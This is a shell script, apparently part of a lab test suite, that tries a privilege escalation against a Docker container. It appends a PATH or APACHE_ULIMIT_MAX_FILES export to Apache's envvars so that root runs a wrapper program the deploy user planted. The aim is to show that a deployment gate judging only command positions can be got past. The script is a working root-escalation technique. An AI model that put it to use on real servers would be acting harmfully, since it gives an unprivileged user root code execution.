#!/bin/sh
# envvars (which apache2ctl sources as root before anything else) is judged only for the words at a command
# position (collect_login.shell_runs: `. FILE`, `source FILE`, `/abs/prog`); what it *exports* is never judged.
# apache2ctl then runs commands by bare name (id, stat, mktemp, chown, mv) with the PATH envvars set, and runs
# $APACHE_ULIMIT_MAX_FILES as a command; apache2 loads libraries from LD_LIBRARY_PATH / LD_PRELOAD.
# Precondition: the admin's envvars names a directory the deploy login may write (the deploy team's tools).
# Usage: attack7/atk_envvars_path.sh /tmp/atk7 [path|ulimit]
set -eu
W=${1:-/tmp/atk7}; KIND=${2:-path}
PORT=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['ssh'])")
APP=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['app'])")
CT=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['container'])")
case $KIND in
  path)   LINE='export PATH=/srv/tools/bin:/usr/sbin:/usr/bin:/sbin:/bin'; PROG=id;;
  ulimit) LINE='export APACHE_ULIMIT_MAX_FILES=/srv/tools/bin/raise-nofile'; PROG=raise-nofile;;
esac
docker exec "$CT" sh -c "install -d -m 2775 -o root -g deployer /srv/tools /srv/tools/bin && cp /etc/apache2/envvars /root/envvars.orig && echo '$LINE' >> /etc/apache2/envvars && rm -f /tmp/root-ran && apache2ctl configtest"
echo "--- root's envvars ends: $(docker exec $CT tail -1 /etc/apache2/envvars)"
ssh -F $W/ssh_config deployer "printf '#!/bin/sh\necho \"\$(date +%%T) \$(/usr/bin/id -u) \$PPID \$(tr \"\\\\\\\\0\" \" \" < /proc/\$PPID/cmdline)\" >> /tmp/root-ran\nexec /usr/bin/$PROG \"\$@\"\n' > /srv/tools/bin/$PROG; chmod 755 /srv/tools/bin/$PROG; cat /srv/tools/bin/$PROG"
echo "--- the gate (read-only, as admin): its root collector runs apache2ctl configtest"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed" || true
echo "--- /tmp/root-ran after the gate:"; docker exec "$CT" sh -c 'cat /tmp/root-ran 2>/dev/null || echo "(none)"'
cd "$APP" && echo 'from deploytests.tasks import *  # noqa' > fabfile.py
docker exec "$CT" sh -c 'echo "# admin note" >> /etc/apache2/sites-available/yourapplication.conf'
DEPLOYTESTS_KNOWN_HOSTS=$W/known_hosts timeout 300 fab -H admin@127.0.0.1:$PORT -i $W/id_ed25519 bootstrap 2>&1 | grep -E "bootstrap" | head -3
echo "--- /tmp/root-ran after bootstrap:"; docker exec "$CT" sh -c 'cat /tmp/root-ran 2>/dev/null || echo "(none)"'
[ -n "${KEEP:-}" ] || docker exec "$CT" sh -c 'cp /root/envvars.orig /etc/apache2/envvars; rm -rf /srv/tools /tmp/root-ran; apache2ctl graceful'
